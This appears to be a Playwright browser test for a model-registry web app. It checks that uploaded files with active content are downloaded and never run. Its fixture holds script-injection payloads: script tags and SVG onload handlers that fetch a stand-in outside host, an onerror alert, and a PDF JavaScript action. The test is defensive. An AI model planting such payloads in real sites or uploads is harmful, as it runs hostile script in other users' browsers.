"""Files that would run in a browser leave as files, and nothing in them runs (THREATS G10)."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from apps.catalog.models import ModelVersion
from tests import factories, scenarios

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

OUT = "https://elsewhere.example/"
SCRIPT = f"<script>document.title='ran';fetch('{OUT}')</script>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{OUT}')\">{SCRIPT}</svg>"
ACTIVE = {
    "page.html": f"<!doctype html>{SCRIPT}",
    "page.htm": f"<img src={OUT} onerror=alert(1)>",
    "page.xhtml": f"<html xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</html>",
    "page.shtml": SCRIPT,
    "page.mhtml": f"MIME-Version: 1.0\nContent-Type: text/html\n\n{SCRIPT}",
    "image.svg": SVG,
    "image.png": SVG,
    "image.svgz": SVG,
    "sheet.xml": f"<?xml-stylesheet href='{OUT}'?><a/>",
    "sheet.xsl": "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
    "feed.rss": f"<rss><channel><link>{OUT}</link></channel></rss>",
    "code.js": f"fetch('{OUT}')",
    "code.mjs": f"import '{OUT}'",
    "style.css": f"@import '{OUT}';",
    "note.md": SCRIPT,
    "note.txt": SCRIPT,
    "paper.pdf": "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "page.url": f"[InternetShortcut]\nURL={OUT}",
    "page.swf": "FWS\x06",
    "MLmodel": f"flavors: !!js/function 'fetch(\"{OUT}\")'",
    "no extension": SCRIPT,
}


@pytest.fixture
def version() -> ModelVersion:
    content = {path: text.encode() for path, text in ACTIVE.items()}
    return scenarios.registered_version(scenarios.registered_model("active"), content)


def test_no_active_file_runs_when_its_address_is_opened(
    version: ModelVersion, person_page: Callable[..., Page]
) -> None:
    page = person_page(accept_downloads=True)
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(f"A dialog opened: {dialog.message}"))
    sign_in(page, scenarios.developer().username)
    before = page.title()

    for path, text in ACTIVE.items():
        with page.expect_download() as download:
            page.evaluate(
                "path => { location.href = '/models/active/versions/1/files/' + encodeURI(path) }",
                path,
            )
        assert download.value.path().read_text() == text
        assert page.title() == before

    assert [address for address in asked_for if address.startswith(OUT)] == []


def sign_in(page: Page, username: str) -> None:
    page.goto("/")
    page.get_by_label("Sign-in name").fill(username)
    page.get_by_label("Password").fill(factories.PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url("**/")
